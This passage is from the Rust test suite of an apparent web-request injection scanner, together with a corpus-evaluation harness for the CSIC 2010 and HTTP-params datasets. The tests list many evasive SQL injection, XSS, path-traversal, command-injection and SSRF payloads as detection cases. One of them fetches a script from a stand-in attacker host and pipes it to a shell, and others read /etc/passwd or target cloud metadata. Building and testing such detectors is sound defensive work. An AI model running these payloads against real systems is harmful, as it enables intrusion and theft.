            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) \
             Chrome/120.0.0.0 Safari/537.36",
            "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0",
            "curl/8.5.0",
            "python-requests/2.31.0",
            "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
            "JSESSIONID=ABC123; theme=dark; lang=en-US",
            "https://www.google.com/search?q=rock+%27n%27+roll&hl=en",
            "{\"query\":\"select\",\"filter\":\"a or b\",\"sort\":\"-created\"}",
            "[\"a\", \"b\", \"c\"]",
        ] {
            assert_clean(v);
        }
    }

    #[test]
    fn evasions() {
        for (v, attack) in [
            ("1'/**/OR/**/'1'='1", Attack::Sqli),
            ("1'%09or%091=1--", Attack::Sqli),
            ("1' oR 'a'='a", Attack::Sqli),
            ("-1 UnIoN/**/SeLeCt 1,2", Attack::Sqli),
            ("1 /*!12345UNION*/ /*!12345SELECT*/ 1", Attack::Sqli),
            ("x'||(select 1 from dual)||'", Attack::Sqli),
            ("1 and ascii(substring(user(),1,1))>64", Attack::Sqli),
            ("'OR'a'='a", Attack::Sqli),
            ("(select 2527 from pg_sleep(5))", Attack::Sqli),
            (
                "1)) as x where 8384=8384 and extractvalue(1,concat(0x5c,version()))--",
                Attack::Sqli,
            ),
            ("1' in boolean mode);select sleep(5)#", Attack::Sqli),
            ("1','0');waitfor delay '0:0:15';--", Attack::Sqli),
            ("x' DELETE FROM USERS", Attack::Sqli),
            ("<ScRiPt>alert(1)</sCrIpT>", Attack::Xss),
            ("<img src=x oNeRrOr=alert`1`>", Attack::Xss),
            ("&#60;script&#62;", Attack::Xss),
            ("&#x3c;svg onload=alert(1)&#x3e;", Attack::Xss),
            ("%253Cscript%253E", Attack::Xss),
            ("<a href=\"&#106;avascript:alert(1)\">", Attack::Xss),
            ("..%5c..%5c..%5cboot.ini", Attack::PathTraversal),
            ("%c0%ae%c0%ae%c0%afetc%c0%afpasswd", Attack::PathTraversal),
            ("..%u2215..%u2215etc", Attack::PathTraversal),
            ("..;/..;/admin", Attack::PathTraversal),
            (";w'h'o'am'i", Attack::CommandInjection),
            ("|cat</etc/passwd", Attack::CommandInjection),
            ("a%0aid", Attack::CommandInjection),
            ("`uname -a`", Attack::CommandInjection),
            ("ping -n 30 127.0.0.1", Attack::CommandInjection),
            ("$(curl http://evil.example/x|sh)", Attack::CommandInjection),
            ("http://0/", Attack::Ssrf),
            ("http://127.1/", Attack::Ssrf),
            ("http://[0:0:0:0:0:ffff:7f00:1]/", Attack::Ssrf),
            ("http://evil.com@169.254.169.254/", Attack::Ssrf),
            ("HTTP://LOCALHOST/", Attack::Ssrf),
            ("http:\\\\127.0.0.1\\", Attack::Ssrf),
            ("file:///etc/passwd", Attack::Ssrf),
        ] {
            assert_flags(v, attack);
        }
    }

    #[test]
    fn contained_relative_path_is_not_traversal() {
        assert!(!has("docs/../img.png", Attack::PathTraversal));
        assert!(!has("a/b/../../c", Attack::PathTraversal));
        assert!(has("a/b/../../../c", Attack::PathTraversal));
        assert!(has("../img.png", Attack::PathTraversal));
        assert!(!has("wait...", Attack::PathTraversal));
        // A URL's start is its root; a drive's is the drive.
        assert!(!has("https://example.com/a/../b", Attack::PathTraversal));
        assert!(has("https://example.com/a/../../b", Attack::PathTraversal));
        assert!(has("C:\\inetpub\\..\\..\\x", Attack::PathTraversal));
    }

    #[test]
    fn ssrf_needs_url_or_host() {
        assert!(!has("see 127.0.0.1 in the logs", Attack::Ssrf));
        assert!(!has(
            "https://example.com/?next=http://127.0.0.1/",
            Attack::Ssrf
        ));
        assert!(!has("http://8.8.8.8/", Attack::Ssrf));
        assert!(!has("http://172.32.0.1/", Attack::Ssrf));
        assert!(has("http://172.31.0.1/", Attack::Ssrf));
        // Bare words and numbers are not hosts; inside a URL they are.
        assert!(!has("metadata", Attack::Ssrf));
        assert!(has("http://metadata/computeMetadata/v1/", Attack::Ssrf));
        assert!(!has("0", Attack::Ssrf));
        assert!(!has("db.internal", Attack::Ssrf));
        assert!(has("db.internal:5432", Attack::Ssrf));
        assert!(has("http://127-0-0-1.sslip.io/", Attack::Ssrf));
    }

    #[test]
    fn inet_aton_forms() {
        let ip = |s: &str| parse_inet_aton(s.as_bytes());
        assert_eq!(ip("127.0.0.1"), Some(0x7f00_0001));
        assert_eq!(ip("2130706433"), Some(0x7f00_0001));
        assert_eq!(ip("0x7f.1"), Some(0x7f00_0001));
        assert_eq!(ip("0177.0.0.01"), Some(0x7f00_0001));
        assert_eq!(ip("127.1"), Some(0x7f00_0001));
        assert_eq!(ip("0x7f000001"), Some(0x7f00_0001));
        assert_eq!(ip("256.0.0.1"), None);
        assert_eq!(ip("1.2.3.4.5"), None);
        assert_eq!(ip("08.0.0.1"), None);
        assert_eq!(ip("example.com"), None);
        assert_eq!(parse_v6(b"::1"), Some([0, 0, 0, 0, 0, 0, 0, 1]));
        assert_eq!(parse_v6(b"fe80::1:2"), Some([0xfe80, 0, 0, 0, 0, 0, 1, 2]));
        assert_eq!(
            parse_v6(b"::ffff:127.0.0.1"),
            Some([0, 0, 0, 0, 0, 0xffff, 0x7f00, 1])
        );
        assert_eq!(parse_v6(b"1:2:3:4:5:6:7:8:9"), None);
        assert_eq!(parse_v6(b"1::2::3"), None);
    }

    #[test]
    fn at_most_one_per_class_in_order() {
        let v = "'; cat /etc/passwd; <script>alert(1)</script> ../../../x";
        let d = found(v);
        let kinds: Vec<_> = d.iter().map(|d| d.attack).collect();
        let mut sorted = kinds.clone();
        sorted.sort();
        sorted.dedup();
        assert_eq!(kinds, sorted);
        assert!(kinds.contains(&Attack::Xss) && kinds.contains(&Attack::CommandInjection));
        assert!(kinds.contains(&Attack::PathTraversal));
    }

    #[test]
    fn long_values_are_capped() {
        let mut v = "a".repeat(MAX_VALUE);
        v.push_str("<script>");
        assert_clean(&v);
        let v = format!("{}' or '1'='1", "(".repeat(10_000));
        let _ = found(&v);
    }

    #[test]
    fn word_lists_are_lower_case() {
        let mut lists = vec![
            &DANGEROUS_TAGS,
            &URL_ATTRS,
            &EVENTS,
            &JS_CALLS,
            &SENSITIVE_PATHS,
            &SQL_FUNCTIONS,
            &SSRF_SCHEMES,
            &WEB_SCHEMES,
        ];
        lists.extend(COMMANDS.iter().map(|(_, l)| l));
        for l in lists {
            assert!(!l.words().is_empty());
            for w in l.words() {
                assert_eq!(w.to_ascii_lowercase(), *w, "{}", String::from_utf8_lossy(w));
            }
        }
        assert!(SQL_FUNCTIONS.contains(b"SLEEP") && EVENTS.contains(b"onError"));
        assert!(!SQL_FUNCTIONS.contains(b"SLEEPS"));
    }

    #[test]
    fn patterns_fit_a_fingerprint() {
        for p in SQLI_PATTERNS {
            let mut acc = Vec::new();
            let mut keys = Vec::new();
            expand(p.trim_end_matches('*').as_bytes(), &mut acc, &mut keys);
            assert!(!keys.is_empty(), "{p} is longer than {FP_LEN} tokens");
        }
    }

    proptest! {
        #![proptest_config(ProptestConfig {
            failure_persistence: None,
            ..ProptestConfig::default()
        })]

        #[test]
        fn never_panics_and_ranges_in_bounds(v in proptest::collection::vec(any::<u8>(), 0..600)) {
            let mut out = Vec::new();
            scan(&v, &mut out);
            for d in &out {
                prop_assert!(d.range.start <= d.range.end && d.range.end <= v.len());
                prop_assert!(d.evidence.len() <= 3 * MAX_EVIDENCE);
            }
            // At most one per class, in `Attack::ALL` order.
            prop_assert!(out.windows(2).all(|w| w[0].attack < w[1].attack));
            for q in [Quote::None, Quote::Single, Quote::Double] {
                prop_assert!(sqli_fingerprint(&v, q).len() <= FP_LEN);
            }
        }

        #[test]
        fn never_panics_on_attack_alphabet(
            v in "[ -~]{0,200}|[%'\"<>/\\\\.;|&`$(){}a-z0-9:@#*=-]{0,300}"
        ) {
            let mut out = Vec::new();
            scan(v.as_bytes(), &mut out);
            for d in &out {
                prop_assert!(d.range.end <= v.len());
            }
            let mut again = Vec::new();
            scan(v.as_bytes(), &mut again);
            prop_assert_eq!(out, again);
        }
    }

    // --------------------------------------------------------------------------------------
    // Corpus evaluation (ignored: needs /work/shared/datasets; run with --ignored --nocapture)

    use std::collections::BTreeMap;
    use std::path::{Path, PathBuf};

    fn datasets() -> PathBuf {
        Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/datasets")
    }

    /// The decompressed bytes of a `.gz` file (through the system `gzip`; the crate has no
    /// inflate dependency), or `None`.
    fn gunzip(path: &Path) -> Option<Vec<u8>> {
        let out = std::process::Command::new("gzip")
            .arg("-dc")
            .arg(path)
            .output()
            .ok()?;
        out.status.success().then_some(out.stdout)
    }

    /// CSIC 2010 requests as lists of raw parameter values (query string and form body), as
    /// `csic_to_pcap.py` splits the file.
    fn csic_requests(text: &[u8]) -> Vec<Vec<Vec<u8>>> {
        let lines: Vec<&[u8]> = text
            .split(|&c| c == b'\n')
            .map(|l| l.strip_suffix(b"\r").unwrap_or(l))
            .collect();
        let is_req = |l: &[u8]| {
            let methods: [&[u8]; 8] = [
                b"GET ",
                b"POST ",
                b"PUT ",
                b"DELETE ",
                b"HEAD ",
                b"OPTIONS ",
                b"TRACE ",
                b"PATCH ",
            ];
            methods.iter().any(|m| l.starts_with(m))
                && (l.ends_with(b" HTTP/1.1") || l.ends_with(b" HTTP/1.0"))
        };
        let starts: Vec<usize> = (0..lines.len()).filter(|&i| is_req(lines[i])).collect();
        let mut reqs = Vec::new();
        for (n, &s) in starts.iter().enumerate() {
            let e = starts.get(n + 1).copied().unwrap_or(lines.len());
            let block = &lines[s..e];
            let mut j = 1;
            while j < block.len() && !block[j].is_empty() {
                j += 1;
            }
            let has_body = block[1..j]
                .iter()
                .any(|h| h.len() > 15 && h[..15].eq_ignore_ascii_case(b"content-length:"));
            let body: &[u8] = if has_body {
                block[j.min(block.len())..]
                    .iter()
                    .find(|l| !l.is_empty())
                    .copied()
                    .unwrap_or(b"")
            } else {
                b""
            };
            let line = block[0];
            let uri = line.split(|&c| c == b' ').nth(1).unwrap_or(b"");
            let query = uri
                .iter()
                .position(|&c| c == b'?')
                .map_or(&b""[..], |p| &uri[p + 1..]);
            let mut values = Vec::new();
            for part in [query, body] {
                for kv in part.split(|&c| c == b'&').filter(|kv| !kv.is_empty()) {
                    let v = kv
                        .iter()
                        .position(|&c| c == b'=')
                        .map_or(&b""[..], |p| &kv[p + 1..]);
                    values.push(v.to_vec());
                }
            }
            reqs.push(values);
        }
        reqs
    }

    struct Tally {
        requests: usize,
        flagged: usize,
        per_class: BTreeMap<&'static str, usize>,
        values: usize,
        values_flagged: usize,
        samples: Vec<String>,
    }

    fn tally(reqs: &[Vec<Vec<u8>>], keep: usize) -> Tally {
        let mut t = Tally {
            requests: reqs.len(),
            flagged: 0,
            per_class: BTreeMap::new(),
            values: 0,
            values_flagged: 0,
            samples: Vec::new(),
        };
        let mut out = Vec::new();
        for r in reqs {
            let mut classes: Vec<Attack> = Vec::new();
            for v in r {
                out.clear();
                scan(v, &mut out);
                t.values += 1;
                if !out.is_empty() {
                    t.values_flagged += 1;
                    if t.samples.len() < keep {
                        let ds: Vec<String> = out
                            .iter()
                            .map(|d| format!("{}:{}", d.attack.as_str(), d.evidence))
                            .collect();
                        t.samples.push(format!(
                            "{:?} -> {}",
                            String::from_utf8_lossy(v),
                            ds.join(" ")
                        ));
                    }
                }
                classes.extend(out.iter().map(|d| d.attack));
            }
            classes.sort();
            classes.dedup();
            if !classes.is_empty() {
                t.flagged += 1;
            }
            for c in classes {
                *t.per_class.entry(c.as_str()).or_default() += 1;
            }
        }
        t
    }

    fn pct(a: usize, b: usize) -> f64 {
        if b == 0 {
            0.0
        } else {
            100.0 * a as f64 / b as f64
        }
    }

    /// Minimal CSV (RFC 4180 quoting) rows.
    fn csv_rows(text: &str) -> Vec<Vec<String>> {
        let mut rows = Vec::new();
        let mut row = Vec::new();
        let mut field = String::new();
        let mut quoted = false;
        let mut chars = text.chars().peekable();
        while let Some(c) = chars.next() {
            match (quoted, c) {
                (true, '"') if chars.peek() == Some(&'"') => {
                    chars.next();
                    field.push('"');
                }
                (true, '"') => quoted = false,
                (true, c) => field.push(c),
                (false, '"') => quoted = true,
                (false, ',') => row.push(std::mem::take(&mut field)),
                (false, '\n') => {
                    row.push(std::mem::take(&mut field));
                    rows.push(std::mem::take(&mut row));
                }
                (false, '\r') => {}
                (false, c) => field.push(c),
            }
        }
        if !field.is_empty() || !row.is_empty() {
            row.push(field);
            rows.push(row);
        }
        rows
    }

    /// Percent-encodes everything but unreserved characters, as a form value on the wire.
    fn form_encode(v: &[u8]) -> Vec<u8> {
        let mut out = Vec::with_capacity(v.len() * 3);
        for &c in v {
            if c.is_ascii_alphanumeric() || b"-_.~".contains(&c) {
                out.push(c);
            } else {
                out.extend_from_slice(format!("%{c:02X}").as_bytes());
            }
        }
        out
    }

    /// Detection counts on CSIC 2010 (requests flagged, by class; normal = false positives) and
    /// on the HTTP-params payload sets, plus worst-case timings. `INJECTION_EVAL_VERBOSE=1`
    /// prints flagged and candidate missed values; `INJECTION_EVAL_EXTRA=file` also scans a
    /// file of wire-format values, one per line (`INJECTION_EVAL_MISSES=1`: print unflagged).
    #[test]
    #[ignore = "needs the shared datasets; run with --ignored --nocapture"]
    fn corpus_eval() {
        let verbose = std::env::var_os("INJECTION_EVAL_VERBOSE").is_some();
        let keep = if verbose { 2000 } else { 12 };
        // Worst-case inputs at the length cap: time per scan.
        for unit in [
            &b"a"[..],
            b"<a x=\"",
            b"$(id",
            b"`",
            b"'",
            b"(",
            b"javascript:",
            b"%",
            b"../",
            b"<",
            b"on",
            b"1+",
            b"; cat ",
            b"&#60;",
            b"/*",
            b"expression(",
            b"alert(",
        ] {
            let v: Vec<u8> = unit.iter().copied().cycle().take(MAX_VALUE).collect();
            let mut out = Vec::new();
            let start = std::time::Instant::now();
            for _ in 0..20 {
                out.clear();
                scan(&v, &mut out);
            }
            let per = start.elapsed() / 20;
            println!(
                "worst case {:?} x {}: {per:?} per scan",
                String::from_utf8_lossy(unit),
                MAX_VALUE / unit.len()
            );
        }
        let root = datasets();
        let csic = root.join("csic2010");
        let mut normal_values = std::collections::HashSet::new();
        if csic.is_dir() {
            for (name, file) in [
                ("normal (training)", "normalTrafficTraining.txt.gz"),
                ("normal (test)", "normalTrafficTest.txt.gz"),
                ("anomalous (test)", "anomalousTrafficTest.txt.gz"),
            ] {
                let Some(text) = gunzip(&csic.join(file)) else {
                    println!("csic {name}: cannot read {file}");
                    continue;
                };
                let reqs = csic_requests(&text);
                if name.starts_with("normal") {
                    normal_values.extend(reqs.iter().flatten().cloned());
                } else if verbose {
                    // Unflagged anomalous values never seen in normal traffic that carry
                    // characters injections need: the candidates for misses.
                    let mut seen = std::collections::BTreeSet::new();
                    let mut out = Vec::new();
                    for v in reqs.iter().flatten() {
                        out.clear();
                        scan(v, &mut out);
                        let mut buf = [0u8; MAX_VALUE];
                        let raw = &v[..v.len().min(MAX_VALUE)];
                        buf[..raw.len()].copy_from_slice(raw);
                        let n = percent_decode(&mut buf[..raw.len()], true);
                        let d = &buf[..n];
                        let special = d.iter().any(|c| b"'\"<>;|`$(){}".contains(c))
                            || memmem::find(d, b"..").is_some()
                            || memmem::find(d, b"--").is_some();
                        if out.is_empty() && special && !normal_values.contains(v) {
                            seen.insert(String::from_utf8_lossy(d).into_owned());
                        }
                    }
                    let mut flagged: BTreeMap<&'static str, std::collections::BTreeSet<String>> =
                        BTreeMap::new();
                    for v in reqs.iter().flatten() {
                        out.clear();
                        scan(v, &mut out);
                        for d in &out {
                            let raw = &v[..v.len().min(MAX_VALUE)];
                            let mut buf = [0u8; MAX_VALUE];
                            buf[..raw.len()].copy_from_slice(raw);
                            let n = percent_decode(&mut buf[..raw.len()], true);
                            flagged
                                .entry(d.attack.as_str())
                                .or_default()
                                .insert(format!(
                                    "{:?} -> {}",
                                    String::from_utf8_lossy(&buf[..n]),
                                    d.evidence
                                ));
                        }
                    }
                    for (class, set) in &flagged {
                        println!(
                            "csic {name}: {class}: {} distinct flagged values",
                            set.len()
                        );
                        for v in set.iter().take(80) {
                            println!("    hit {class} {v}");
                        }
                    }
                    println!(
                        "csic {name}: {} distinct unflagged unusual values",
                        seen.len()
                    );
                    for v in seen.iter().take(600) {
                        println!("    miss? {v:?}");
                    }
                }
                let start = std::time::Instant::now();
                let t = tally(&reqs, keep);
                let took = start.elapsed();
                println!(
                    "csic {name}: {} requests, {} flagged ({:.3} %); {} values, {} flagged \
                     ({:.4} %); {:?} [{:.0} ns/value]",
                    t.requests,
                    t.flagged,
                    pct(t.flagged, t.requests),
                    t.values,
                    t.values_flagged,
                    pct(t.values_flagged, t.values),
                    t.per_class,
                    took.as_nanos() as f64 / t.values.max(1) as f64
                );
                for s in &t.samples {
                    println!("    {s}");
                }
            }
        } else {
            println!("csic2010 not found under {}", root.display());
        }
        // Any file of values, one per line as on the wire, for a stress test beyond CSIC:
        // INJECTION_EVAL_EXTRA=/path/to/lines.txt
        if let Some(extra) = std::env::var_os("INJECTION_EVAL_EXTRA") {
            let text = std::fs::read(&extra).unwrap_or_default();
            let mut by_class: BTreeMap<&'static str, usize> = BTreeMap::new();
            let (mut n, mut flagged) = (0, 0);
            let mut out = Vec::new();
            for line in text.split(|&c| c == b'\n').filter(|l| !l.is_empty()) {
                out.clear();
                scan(line, &mut out);
                n += 1;
                if !out.is_empty() {
                    flagged += 1;
                    let ds: Vec<String> = out
                        .iter()
                        .map(|d| format!("{}:{}", d.attack.as_str(), d.evidence))
                        .collect();
                    if verbose || flagged <= keep {
                        println!(
                            "    extra {:?} -> {}",
                            String::from_utf8_lossy(line),
                            ds.join(" ")
                        );
                    }
                } else if std::env::var_os("INJECTION_EVAL_MISSES").is_some() {
                    println!("    extra unflagged {:?}", String::from_utf8_lossy(line));
                }
                for d in &out {
                    *by_class.entry(d.attack.as_str()).or_default() += 1;
                }
            }
            println!(
                "extra: {n} values, {flagged} flagged ({:.3} %) {by_class:?}",
                pct(flagged, n)
            );
        }
        let params = root.join("http-params");
        for file in ["payload_train.csv", "payload_test.csv"] {
            let Ok(text) = std::fs::read(params.join(file)) else {
                println!("http-params {file}: not found");
                continue;
            };
            let text = String::from_utf8_lossy(&text);
            let mut by_type: BTreeMap<String, (usize, usize, BTreeMap<&'static str, usize>)> =
                BTreeMap::new();
            let mut misses: BTreeMap<String, Vec<String>> = BTreeMap::new();
            let mut out = Vec::new();
            for row in csv_rows(&text).into_iter().skip(1) {
                let [payload, _, kind, _] = &row[..] else {
                    continue;
                };
                out.clear();
                scan(&form_encode(payload.as_bytes()), &mut out);
                let e = by_type.entry(kind.clone()).or_default();
                e.0 += 1;
                if !out.is_empty() {
                    e.1 += 1;
                }
                for d in &out {
                    *e.2.entry(d.attack.as_str()).or_default() += 1;
                }
                let wrong = if kind == "norm" {
                    !out.is_empty()
                } else {
                    out.is_empty()
                };
                let m = misses.entry(kind.clone()).or_default();
                if wrong && m.len() < keep {
                    let ds: Vec<String> = out
                        .iter()
                        .map(|d| format!("{}:{}", d.attack.as_str(), d.evidence))
                        .collect();
                    let fps: Vec<String> = [Quote::None, Quote::Single, Quote::Double]
                        .iter()
                        .map(|&q| sqli_fingerprint(payload.as_bytes(), q))
                        .collect();
                    m.push(format!("{payload:?} {} [{}]", ds.join(" "), fps.join(" ")));
                }
            }
            for (kind, (n, flagged, classes)) in &by_type {
                println!(
                    "http-params {file} {kind}: {n} values, {flagged} flagged ({:.2} %) \
                     {classes:?}",
                    pct(*flagged, *n)
                );
                if verbose {
                    for m in &misses[kind] {
                        println!(
                            "    {}",
                            if kind == "norm" { "FP" } else { "miss" }.to_owned() + " " + m
                        );
                    }
                }
            }
        }
    }
}
